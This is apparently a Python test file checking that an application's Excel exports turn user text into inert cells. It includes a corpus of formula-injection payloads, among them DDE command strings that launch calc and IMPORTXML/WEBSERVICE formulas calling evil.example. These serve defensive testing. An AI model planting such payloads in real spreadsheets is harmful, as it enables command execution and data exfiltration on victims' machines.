"""What people write stays words in every sheet that leaves the house."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from handlers import inert_cells
from handlers.inert_cells import clean
from handlers.records import personal_sheet
from handlers.reports.cells import Table
from handlers.reports.xlsx import tables_workbook
from handlers.tasks.spreadsheet import SheetRow, write_sheet

ROOT = Path(__file__).parents[3]
CORPUS = (
    "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", "＋1",
    "－1", "＠a",    '=HYPERLINK("http://evil.example","点我")', "=cmd|'/c calc'!A0",
    "=DDE(\"cmd\",\"/c calc\",\"1\")",
    "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", '=WEBSERVICE("http://evil.example")',
    "{=1+1}", "%0A=1", "'=1", "#REF!", "#N/A", "TRUE", "1E5", "00123", "2026-09-01", "正常\x0b的",
    "\ud800半个", "a" * 40_000, "𠮷" * 40_000,
)  # fmt: skip
TEXTS = st.one_of(
    st.sampled_from(CORPUS),
    st.tuples(st.sampled_from("=+-@\t\r＝＋－＠"), st.text(max_size=20)).map("".join),
    st.text(max_size=30),
)


def read(content: bytes) -> list[list[object]]:
    """Every cell of every sheet, after it is sure that none is more than words."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            assert b"<f>" not in part, name
            assert b"<f " not in part, name
            assert b"<hyperlink" not in part, name
            assert not name.endswith(("externalLink1.xml", "connections.xml")), name
    rows: list[list[object]] = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type in ("s", "n", "d", "inlineStr") for cell in row)
            rows.append([cell.value for cell in row])
    return rows


@pytest.mark.parametrize("words", CORPUS)
def test_a_hostile_cell_is_words_in_every_kind_of_sheet(words: str) -> None:
    report = tables_workbook([Table(title="台账", header=("甲",), rows=((words,),), widths=(9,))])
    tasks = write_sheet([SheetRow(title=words, duty=words, who=words, when=words)], words)
    own = personal_sheet.workbook({"记录": [{"name": words, "title": words, "reason": words}]})
    for content in (report, tasks, own):
        read(content)
    [_, [shown]] = read(report)
    assert isinstance(shown, str)
    assert clean(words).replace("\r", "\n").startswith(shown.replace("\r", "\n"))
    assert len(shown.encode("utf-16-le")) // 2 <= 32_767


@settings(max_examples=60)
@given(st.lists(TEXTS, min_size=1, max_size=4))
def test_any_words_come_back_as_words(texts: list[str]) -> None:
    rows = tuple((one,) for one in texts)
    read(tables_workbook([Table(title="台账", header=("甲",), rows=rows, widths=(9,))]))
    read(write_sheet([SheetRow(title=one, duty=one, quote=one) for one in texts], "清单"))


def test_numbers_and_dates_are_what_they_are() -> None:
    sheet = Workbook().worksheets[0]
    for row, value in enumerate((3, 2.5, date(2026, 9, 1), float("nan"), "", None), 1):
        inert_cells.put(sheet.cell(row=row, column=1), value)
    kinds = [sheet.cell(row=row, column=1) for row in range(1, 7)]
    assert [one.data_type for one in kinds[:4]] == ["n", "n", "d", "s"]
    assert kinds[2].number_format == "yyyy-mm-dd"
    assert kinds[4].value is None


def test_whoever_writes_a_sheet_fills_it_here() -> None:
    writers = [
        path
        for path in (ROOT / "handlers").rglob("*.py")
        if "    from openpyxl import Workbook\n" in path.read_text("utf-8")
    ]
    assert writers
    for path in writers:
        assert "inert_cells" in path.read_text("utf-8"), path.name
